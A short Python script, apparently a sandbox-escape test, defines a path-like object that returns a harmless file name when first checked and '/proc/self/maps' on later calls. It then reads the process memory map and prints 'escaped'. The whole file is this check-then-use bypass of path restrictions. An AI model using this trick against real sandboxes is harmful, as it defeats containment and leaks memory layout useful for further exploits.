"""A path-like object names a harmless file first and the process's own memory map when asked again."""
import os


class Path(os.PathLike):
    names = iter(["inside/open", "/proc/self/maps", "/proc/self/maps", "/proc/self/maps"])

    def __fspath__(self):
        return next(self.names)


path = Path()
while "-" not in open(path).read():
    pass
print("escaped")
